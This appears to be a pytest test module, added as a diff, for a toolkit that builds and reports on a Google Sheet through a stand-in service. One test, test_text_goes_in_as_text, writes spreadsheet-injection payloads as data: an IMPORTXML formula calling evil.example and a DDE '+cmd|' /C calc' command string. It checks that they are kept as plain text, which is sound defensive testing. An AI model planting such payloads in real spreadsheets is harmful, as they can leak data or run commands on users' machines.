@@ -1,0 +1,483 @@
+"""The commands on a Google Sheet, through the stand-in: set up, checked, reported on, and nothing of the staff's touched."""
+
+import json
+import re
+import sys
+from email import message_from_bytes
+from email.policy import default
+
+import pytest
+import spreadsheets
+from standins.loading import load
+
+from toolkit.cli import main
+from toolkit.outputs import load_outputs
+from toolkit.plans import load_plan
+from toolkit.sample import AS_OF, build_sample
+from toolkit.schema import load_schema
+
+SCHEMA = load_schema()
+OUTPUTS = load_outputs()
+DAY = AS_OF.isoformat()
+OWN = (*OUTPUTS.sheets.values(), OUTPUTS.book["chart_data"], OUTPUTS.book["memory"])
+
+
+@pytest.fixture(scope="module")
+def sample(tmp_path_factory):
+    path = tmp_path_factory.mktemp("sample") / "示例.xlsx"
+    build_sample(path, load_plan("S9").quotas)
+    return path
+
+
+@pytest.fixture
+def run(monkeypatch, capsys, tmp_path):
+    """Runs a command in this process; its exit code, what it printed, and what it said besides."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+
+    def command(*arguments):
+        monkeypatch.setattr(sys, "argv", ["consortium", *map(str, arguments)])
+        capsys.readouterr()
+        code = 0
+        try:
+            main()
+        except SystemExit as end:
+            code = end.code or 0
+        out, err = capsys.readouterr()
+        return code, out, err
+
+    return command
+
+
+@pytest.fixture
+def place(sheets, tmp_path):
+    """An empty spreadsheet that a person shared, and the configuration that leads to it."""
+    number = spreadsheets.made(sheets, "示例")
+    return number, spreadsheets.config(sheets, number, tmp_path)
+
+
+@pytest.fixture
+def full(sheets, place, sample):
+    """The sample community in it, set up around what people had entered."""
+    load(sheets.client(), place[0], sample)
+    sheets.log.clear()
+    return place
+
+
+def _staff(sheets, number):
+    """All that stands in tabs that are not the toolkit's own: cells, formats, sizes, everything."""
+    book = sheets.store.books[number]
+    own = {
+        item["location"].get("sheetId") for item in book.metadata.values() if item["metadataKey"] == "consortium.output"
+    }
+    return {
+        tab.properties["sheetId"]: (
+            dict(tab.properties),
+            _flat(tab),
+            list(tab.merges),
+            dict(tab.column_meta),
+            dict(tab.row_meta),
+        )
+        for tab in book.sheets
+        if tab.properties["sheetId"] not in own
+    }
+
+
+def _flat(tab):
+    """The cells of a tab of the stand-in by row and column."""
+    return {(row, column): cell for row, line in tab.cells.items() for column, cell in line.items()}
+
+
+def _cells(sheets, number, title):
+    return sheets.client().open_by_key(number).worksheet(title).get_all_values()
+
+
+def _kinds(sheets):
+    return [call.kind for call in sheets.log if call.api == "sheets"]
+
+
+# --- set-up
+
+
+def test_set_up_in_one_batch_and_never_again(sheets, place, run):
+    code, out, err = run("init", "--plan", "S9", "--config", place[1])
+    assert code == 0, err
+    assert "17 sheets" in out
+    assert _kinds(sheets).count("write") == 1
+    titles = [tab.title for tab in sheets.client().open_by_key(place[0]).worksheets()]
+    assert {sheet.title for sheet in SCHEMA.sheets.values()} | set(OWN) <= set(titles)
+    assert titles[0] == "Sheet1"
+    before = sheets.store.books[place[0]]
+    sheets.log.clear()
+    code, out, err = run("init", "--plan", "S9", "--config", place[1])
+    assert code == 0
+    assert _kinds(sheets).count("write") == 0
+    assert sheets.store.books[place[0]] is before
+    assert "3 calls to Google" in err
+
+
+def test_an_empty_record_set_up_can_be_checked_and_reported_on(sheets, place, run):
+    run("init", "--plan", "S9", "--config", place[1])
+    code, out, _ = run("check", "--config", place[1], "--as-of", DAY)
+    assert (code, "角色" in out) == (1, True)
+    code, out, err = run("dashboard", "--config", place[1], "--as-of", DAY)
+    assert (code, out.startswith("https://docs.google.com/spreadsheets/d/")) == (0, True), err
+    assert sheets.failures == []
+
+
+def test_set_up_around_what_staff_have(sheets, full, run):
+    before = _staff(sheets, full[0])
+    assert run("init", "--config", full[1])[0] == 0
+    after = _staff(sheets, full[0])
+    for tab, (properties, cells, merges, columns, rows) in before.items():
+        values = {at: cell["userEnteredValue"] for at, cell in cells.items() if "userEnteredValue" in cell}
+        now = {at: cell.get("userEnteredValue") for at, cell in after[tab][1].items()}
+        assert {at: now.get(at) for at in values} == values
+        assert (after[tab][0]["title"], after[tab][0]["index"]) == (properties["title"], properties["index"])
+        assert after[tab][2] == merges
+        assert {at: after[tab][3].get(at) for at in columns} == columns
+        assert {at: after[tab][4].get(at) for at in rows} == rows
+    sheets.log.clear()
+    assert run("init", "--config", full[1])[0] == 0
+    assert _kinds(sheets).count("write") == 0
+
+
+def test_a_file_in_the_trash_or_of_another_kind_is_not_set_up(sheets, run, tmp_path):
+    trashed = spreadsheets.made(sheets, trashed=True)
+    code, _, err = run("init", "--config", spreadsheets.config(sheets, trashed, tmp_path))
+    assert (code, "trash" in err, err.count("\n")) == (3, True, 2)
+    office = sheets.add_file(
+        name="登记.xlsx", mimeType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    code, _, err = run("init", "--config", spreadsheets.config(sheets, office["id"], tmp_path))
+    assert (code, "Save as Google Sheets" in err) == (3, True)
+    assert _kinds(sheets).count("write") == 0
+
+
+def test_drop_downs_that_pasting_destroyed(sheets, full, run):
+    run("init", "--config", full[1])
+    tab = sheets.client().open_by_key(full[0]).worksheet("学校")
+    role = _header(tab.get_all_values(), "角色")[1]
+    area = {
+        "sheetId": tab.id,
+        "startRowIndex": 6,
+        "endRowIndex": 9,
+        "startColumnIndex": role,
+        "endColumnIndex": role + 1,
+    }
+    sheets.edit(full[0], {"request": {"setDataValidation": {"range": area}}})
+    code, out, _ = run("doctor", "--config", full[1])
+    assert (code, "下拉 drop-downs：粘贴弄丢了下拉：学校 角色" in out) == (1, True)
+    code, out, _ = run("init", "--repair", "--config", full[1])
+    letter = "ABCDEFGHIJ"[role]
+    assert (code, f"{letter}7:{letter}9" in out) == (0, True)
+    sheets.log.clear()
+    run("init", "--repair", "--config", full[1])
+    assert _kinds(sheets).count("write") == 0
+
+
+def _header(rows, name):
+    return next(
+        (row, column) for row, line in enumerate(rows) for column, text in enumerate(line) if text.strip(" *") == name
+    )
+
+
+# --- the same as a workbook
+
+
+@pytest.mark.parametrize("order", ["filled, then set up", "set up, then filled", "filled only"])
+def test_the_sample_gives_what_the_workbook_gives(sheets, place, sample, run, order):
+    steps = {
+        "filled": lambda: load(sheets.client(), place[0], sample),
+        "set up": lambda: run("init", "--plan", "S9", "--config", place[1]),
+    }
+    for step in order.removesuffix(" only").split(", "):
+        steps[step.removeprefix("then ")]()
+    for command in ("check", "quotas"):
+        expected = run(command, "--json", "--as-of", DAY, "--workbook", sample)
+        found = run(command, "--json", "--as-of", DAY, "--config", place[1])
+        told = [
+            problem
+            for problem in json.loads(found[1])
+            if not str(problem.get("rule")).startswith(("sheet.", "header."))
+        ]
+        assert (found[0], told) == (expected[0], json.loads(expected[1]))
+
+
+def test_the_mails_are_those_of_the_workbook_with_links_besides(full, sample, run, tmp_path):
+    run("weekly", "--dry-run", "--as-of", DAY, "--workbook", sample, "--out", tmp_path / "a")
+    code, out, err = run("weekly", "--dry-run", "--as-of", DAY, "--config", full[1], "--out", tmp_path / "b")
+    assert code == 0, err
+    names = [path.name for path in sorted((tmp_path / "a").glob("*.eml"))]
+    assert len(names) == len(out.splitlines()) == 25
+    for name in names:
+        one, two = (_text(tmp_path / folder / name) for folder in "ab")
+        assert two.startswith(one.partition("\n-- ")[0][:400])
+        assert set(re.findall(r"\S+", two)) >= set(re.findall(r"\S+", one)) - {
+            word for word in re.findall(r"\S+", one) if "示例.xlsx" in word
+        }
+        assert full[0] in two
+
+
+def _text(path):
+    message = message_from_bytes(path.read_bytes(), policy=default)
+    return message.get_body(("plain",)).get_content()
+
+
+# --- the dashboard
+
+
+def test_two_reads_and_one_write_and_none_if_nothing_changed(sheets, full, run):
+    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
+    assert _kinds(sheets) == ["read", "read", "write"]
+    first = {title: _cells(sheets, full[0], title) for title in OWN}
+    sheets.log.clear()
+    code, _, err = run("dashboard", "--config", full[1], "--as-of", DAY)
+    assert (code, _kinds(sheets)) == (0, ["read", "read"])
+    assert "2 calls to Google: 2 to read, 0 to write" in err
+    assert {title: _cells(sheets, full[0], title) for title in OWN} == first
+
+
+def test_figures_are_those_of_the_dashboard_workbook(sheets, full, sample, run, tmp_path):
+    import openpyxl  # noqa: PLC0415
+
+    run("dashboard", "--workbook", sample, "--as-of", DAY, "--out", tmp_path / "out")
+    run("dashboard", "--config", full[1], "--as-of", DAY)
+    book = openpyxl.load_workbook(tmp_path / "out" / "看板.xlsx")
+    client = sheets.client().open_by_key(full[0])
+    for title in OUTPUTS.sheets.values():
+        expected = [
+            [cell if cell is not None else "" for cell in row] for row in book[title].iter_rows(values_only=True)
+        ]
+        found = client.worksheet(title).get_values(
+            value_render_option="UNFORMATTED_VALUE", date_time_render_option="SERIAL_NUMBER"
+        )
+        for row, line in enumerate(expected):
+            for column, value in enumerate(line):
+                cell = found[row][column] if row < len(found) and column < len(found[row]) else ""
+                if hasattr(value, "year"):
+                    value = (value - type(value)(1899, 12, 30)).days  # noqa: PLW2901
+                assert cell == (pytest.approx(value) if isinstance(value, float) else value), (title, row, column)
+
+
+def test_nothing_but_our_own_tabs_is_touched_while_a_person_edits(sheets, full, run):
+    """A person types, renames, adds and sorts between every call; all of it stands afterwards."""
+    run("init", "--config", full[1])
+    book = sheets.client().open_by_key(full[0])
+    events = book.worksheet("活动")
+    renamed = {"properties": {"sheetId": events.id, "title": "大家的活动"}, "fields": "title"}
+    row = {"sheetId": events.id, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}
+    edits = [
+        {"sheet": "人员", "cell": "L9", "value": "甲"},
+        {"request": {"updateSheetProperties": renamed}},
+        {"request": {"addSheet": {"properties": {"sheetId": 424242, "title": "私人"}}}},
+        {"sheet": "私人", "cell": "A1", "value": "=1+1"},
+        {"request": {"insertDimension": {"range": row}}},
+        {"sheet": "大家的活动", "cell": "A1", "value": "丙"},
+    ]
+    for place, edit in enumerate(edits):
+        call, when = place // 2, ("before", "after")[place % 2]
+        sheets.faults.add("person", spreadsheet=full[0], api="sheets", after=call, times=1, when=when, edits=[edit])
+    before = _staff(sheets, full[0])
+    code, _, err = run("dashboard", "--config", full[1], "--as-of", DAY)
+    assert code == 0, err
+    after = _staff(sheets, full[0])
+    changed = {tab for tab in after if tab not in before or _typed(before[tab]) != _typed(after[tab])}
+    people = book.worksheet("人员").id
+    assert changed == {people, events.id, 424242}
+    assert _typed(before[people]) == {at: cell for at, cell in _typed(after[people]).items() if at != (8, 11)}
+
+
+def _typed(tab):
+    """Contents and formats; rules follow rows that people insert elsewhere."""
+    return {at: {key: part for key, part in cell.items() if key != "dataValidation"} for at, cell in tab[1].items()}
+
+
+def test_text_goes_in_as_text(sheets, place, run):
+    hostile = '=IMPORTXML("http://evil.example","//a")'
+    rows = {
+        "学校": [["学校", "角色"], [hostile, "领衔学校"], ["+cmd|' /C calc'!A0", "成员学校"]],
+        "学期": [["学期", "学年", "开始日期", "结束日期"], ["@SUM(1)", "2026", "2026-09-01", "2027-01-20"]],
+    }
+    text = {
+        title: [[f"'{cell}" if cell[0] in "=+@" else cell for cell in row] for row in lines]
+        for title, lines in rows.items()
+    }
+    book = sheets.client().open_by_key(place[0])
+    for title, lines in text.items():
+        book.add_worksheet(title, 50, 10).update(lines, value_input_option="USER_ENTERED")
+    assert run("init", "--plan", "S9", "--config", place[1])[0] == 0
+    assert run("dashboard", "--config", place[1], "--as-of", DAY)[0] == 0
+    cells = [cell for tab in sheets.store.books[place[0]].sheets for cell in _flat(tab).values()]
+    formulas = [
+        cell["userEnteredValue"]["formulaValue"] for cell in cells if "formulaValue" in cell.get("userEnteredValue", {})
+    ]
+    assert formulas == []
+    shown = json.dumps([_cells(sheets, place[0], title) for title in OWN], ensure_ascii=False)
+    assert "IMPORTXML" in shown
+
+
+def test_links_lead_to_the_very_cells(sheets, full, run):
+    run("dashboard", "--config", full[1], "--as-of", DAY)
+    book = sheets.store.books[full[0]]
+    tabs = {tab.properties["title"]: tab for tab in book.sheets}
+    found = 0
+    problems = _flat(tabs["待改"])
+    for cell in problems.values():
+        uri = cell.get("userEnteredFormat", {}).get("textFormat", {}).get("link", {}).get("uri", "")
+        if uri:
+            gid, area = re.fullmatch(r"#gid=(\d+)&range=([A-Z]+\d+)", uri).groups()
+            title = next(title for title, tab in tabs.items() if tab.properties["sheetId"] == int(gid))
+            assert cell["userEnteredValue"]["stringValue"].startswith(title.strip()[:2])
+            assert title not in OWN
+            assert area
+            found += 1
+    assert found > 30
+
+
+def test_a_deleted_tab_of_ours_is_made_anew_and_a_strangers_is_left(sheets, full, run):
+    client = sheets.client().open_by_key(full[0])
+    mine = client.add_worksheet("看板", 5, 5)
+    mine.update_acell("A1", "我的看板")
+    run("dashboard", "--config", full[1], "--as-of", DAY)
+    assert client.worksheet("看板").acell("A1").value == "我的看板"
+    client.del_worksheet(client.worksheet("待改"))
+    sheets.log.clear()
+    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
+    assert _kinds(sheets) == ["read", "read", "write"]
+    assert len(_cells(sheets, full[0], "待改")) > 30
+    assert client.worksheet("看板").acell("A1").value == "我的看板"
+
+
+def test_charts_are_updated_not_added_again(sheets, full, run):
+    run("dashboard", "--config", full[1], "--as-of", DAY)
+    charts = [list(tab.charts) for tab in sheets.store.books[full[0]].sheets]
+    assert run("dashboard", "--config", full[1], "--as-of", "2026-12-01")[0] == 0
+    assert [list(tab.charts) for tab in sheets.store.books[full[0]].sheets] == charts
+    assert sum(map(len, charts)) >= 4
+
+
+@pytest.mark.parametrize("fault", ["cut_after", "cut_before", "error"])
+def test_a_reader_never_sees_half(sheets, full, run, fault, monkeypatch):
+    monkeypatch.setattr("time.sleep", lambda _: None)
+    run("dashboard", "--config", full[1], "--as-of", DAY)
+    before = {title: _cells(sheets, full[0], title) for title in OWN}
+    more = {"status": 503} if fault == "error" else {}
+    sheets.faults.add(fault, path=":batchUpdate", times=1, **more)
+    sheets.log.clear()
+    code, _, err = run("dashboard", "--config", full[1], "--as-of", "2026-12-01")
+    after = {title: _cells(sheets, full[0], title) for title in OWN}
+    assert code == 0, err
+    assert after["看板"] != before["看板"]
+    assert "2026-12-01" in json.dumps(after["看板"], ensure_ascii=False)
+    assert _kinds(sheets).count("write") == (1 if fault == "cut_after" else 2)
+    assert sheets.client().open_by_key(full[0]).worksheets()
+
+
+def test_what_earlier_runs_saw_lives_in_the_sheet(sheets, full, run, tmp_path):
+    run("dashboard", "--config", full[1], "--as-of", "2026-11-17")
+    memory = sheets.client().open_by_key(full[0]).worksheet(OUTPUTS.book["memory"])
+    assert memory.isSheetHidden
+    code, _, err = run("dashboard", "--config", full[1], "--as-of", DAY)
+    assert (code, "Working out the weeks" in err) == (0, False)
+    front = json.dumps(_cells(sheets, full[0], "看板"), ensure_ascii=False)
+    assert "比上周" in front
+    assert not list(tmp_path.rglob("*历次结果*"))
+    memory.update_acell("C3", "not what was there")
+    assert run("dashboard", "--config", full[1], "--as-of", "2026-12-01")[0] == 0
+
+
+def test_pages_are_written_where_a_folder_is_named(full, run, tmp_path):
+    code, out, _ = run("dashboard", "--config", full[1], "--as-of", DAY, "--out", tmp_path / "pages")
+    assert (code, len(out.splitlines())) == (0, 13)
+    page = (tmp_path / "pages" / "index.html").read_text("utf-8")
+    assert f"https://docs.google.com/spreadsheets/d/{full[0]}/edit" in page
+
+
+def test_the_other_commands(full, run, tmp_path):
+    assert run("explain", "2.2", "--config", full[1], "--as-of", DAY)[0] == 0
+    assert run("preview", "--no-open", "--config", full[1], "--as-of", DAY, "--out", tmp_path / "p")[0] == 0
+    assert (
+        run("report", "--term", "2026-2027学年第一学期", "--config", full[1], "--as-of", DAY, "--out", tmp_path / "r")[
+            0
+        ]
+        == 0
+    )
+
+
+# --- lights
+
+
+def test_the_keys_of_the_lights_stand_in_a_hidden_column(sheets, full, run):
+    run("init", "--config", full[1])
+    run("dashboard", "--config", full[1], "--as-of", DAY)
+    rows = _cells(sheets, full[0], "待改")
+    keys = [row[-1] for row in rows[1:] if row[-1]]
+    assert len(keys) > 30
+    assert all(re.match(r"[a-z_]+![A-Z]+\d+\|", key) for key in keys)
+    named = {item["name"]: item["range"] for item in sheets.store.books[full[0]].named_ranges.values()}
+    assert named["consortium_lights"]["startColumnIndex"] == len(rows[0]) - 1
+
+
+# --- doctor and usage
+
+
+def test_doctor_finds_nothing_amiss_where_all_is_well(full, run):
+    run("init", "--config", full[1])
+    run("dashboard", "--config", full[1], "--as-of", DAY)
+    code, out, _ = run("doctor", "--config", full[1])
+    signs = [line[0] for line in out.splitlines()]
+    assert (code, set(signs[:-1])) == (0, {"✓"}), out
+    assert "一切正常" in out
+
+
+@pytest.mark.parametrize(
+    ("fault", "word"),
+    [
+        ({"kind": "forbidden", "reason": "not_shared"}, "编辑者"),
+        ({"kind": "forbidden", "reason": "api_disabled"}, "启用"),
+        ({"kind": "not_found"}, "重新复制"),
+        ({"kind": "clock", "minutes": 42}, "慢了 42 分钟"),
+    ],
+)
+def test_doctor_says_what_to_do(sheets, full, run, fault, word):
+    sheets.faults.add(fault)
+    code, out, _ = run("doctor", "--config", full[1])
+    line = next(line for line in out.splitlines() if word in line)
+    assert (code, line[0], " / " in line) == (3, "✗", True)
+
+
+def test_doctor_on_a_workbook(sample, run, tmp_path):
+    code, out, _ = run("doctor", "--workbook", sample)
+    assert (code, "✗ 邮件设置" in out, "✓ 打开表格" in out) == (1, True, True)
+    code, out, _ = run("doctor", "--workbook", tmp_path / "missing.xlsx")
+    assert (code, "✗ 打开表格" in out) == (3, True)
+    (tmp_path / "consortium.toml").write_text("[nonsense]\n")
+    assert run("doctor", "--workbook", sample)[0] == 2
+
+
+def test_a_source_is_named_once(sheets, full, sample, run, tmp_path):
+    code, _, err = run("check", "--workbook", sample, "--sheet", full[0])
+    assert (code, "not both" in err) == (2, True)
+    config = tmp_path / "both.toml"
+    config.write_text(full[1].read_text() + '[workbook]\npath = "a.xlsx"\n')
+    code, _, err = run("check", "--config", config)
+    assert (code, "keep one" in err) == (2, True)
+    code, _, err = run(
+        "check",
+        "--config",
+        full[1],
+        "--sheet",
+        f"https://docs.google.com/spreadsheets/d/{full[0]}/edit#gid=0",
+        "--as-of",
+        DAY,
+    )
+    assert (code, "calls to Google" in err) == (1, True)
+    assert run("init", "--repair", "--workbook", tmp_path / "new.xlsx")[0] == 2
+    assert sheets.failures == []
+
+
+def test_a_key_that_others_can_read_is_pointed_out(full, run, tmp_path):
+    (tmp_path / "key.json").chmod(0o644)
+    _, _, err = run("check", "--config", full[1], "--as-of", DAY)
+    assert "can be read by other users" in err
